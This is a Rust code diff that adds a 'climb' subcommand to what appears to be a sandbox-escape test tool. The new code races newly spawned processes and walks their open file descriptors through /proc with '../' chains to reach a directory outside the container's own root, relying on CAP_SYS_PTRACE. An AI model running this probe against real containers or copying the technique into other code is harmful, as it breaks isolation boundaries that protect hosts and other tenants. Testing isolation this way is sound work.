@@ -6,12 +6,13 @@ use serde_json::json;
 use std::os::unix::fs::MetadataExt;
 use std::time::{Duration, Instant};
 
-/// `attack watch SECONDS`, `attack overwrite SECONDS`, `attack swap ONE OTHER SECONDS`.
+/// `attack watch SECONDS`, `attack climb SECONDS`, `attack overwrite SECONDS`, `attack swap ONE OTHER SECONDS`.
 pub fn run(words: &[&str]) -> u8 {
     let until =
         |text: &str| text.parse::<f64>().ok().map(|time| Instant::now() + Duration::from_secs_f64(time));
     match words {
         ["watch", seconds] => until(seconds).map_or_else(|| wrong("watch takes seconds"), watch),
+        ["climb", seconds] => until(seconds).map_or_else(|| wrong("climb takes seconds"), climb),
         ["overwrite", seconds] => until(seconds).map_or_else(|| wrong("overwrite takes seconds"), overwrite),
         ["swap", one, other, seconds] => {
             until(seconds).map_or_else(|| wrong("swap takes seconds"), |end| swap(one, other, end))
@@ -83,6 +84,40 @@ fn watch(end: Instant) -> u8 {
         }
     }
     say(&json!({"rounds": rounds, "seen": seen.len(), "denied": denied, "got": got}).to_string());
+    0
+}
+
+/// Looks for a process with a directory open from which another root than its own is reached. By CAP_SYS_PTRACE everybody's descriptors can
+/// be opened, and a directory of the host leads to all of it.
+fn climb(end: Instant) -> u8 {
+    let own = std::fs::metadata("/").ok().map(|meta| (meta.dev(), meta.ino()));
+    let me = i32::try_from(std::process::id()).unwrap_or(0);
+    let (mut last, mut rounds) = (me, 0_u64);
+    let (mut seen, mut got) = (std::collections::BTreeSet::new(), std::collections::BTreeSet::new());
+    say("ready");
+    while Instant::now() < end && got.len() < 20 {
+        rounds += 1;
+        if rounds % 256 == 0 {
+            last = process_ids().into_iter().fold(last, i32::max);
+        }
+        // Numbers are given in order: whoever comes next has one of these.
+        for pid in (last..last + 4).filter(|pid| *pid != me) {
+            if !std::path::Path::new(&format!("/proc/{pid}")).exists() {
+                continue;
+            }
+            last = pid.max(last);
+            seen.insert(pid);
+            for fd in 0..24 {
+                let up = format!("/proc/{pid}/fd/{fd}/{}", "../".repeat(24));
+                let Ok(meta) = std::fs::metadata(&up) else { continue };
+                if own != Some((meta.dev(), meta.ino())) {
+                    let link = std::fs::read_link(format!("/proc/{pid}/fd/{fd}"));
+                    got.insert(link.map_or_else(|_| "?".to_owned(), |link| link.display().to_string()));
+                }
+            }
+        }
+    }
+    say(&json!({"rounds": rounds, "seen": seen.len(), "got": got}).to_string());
     0
 }
 
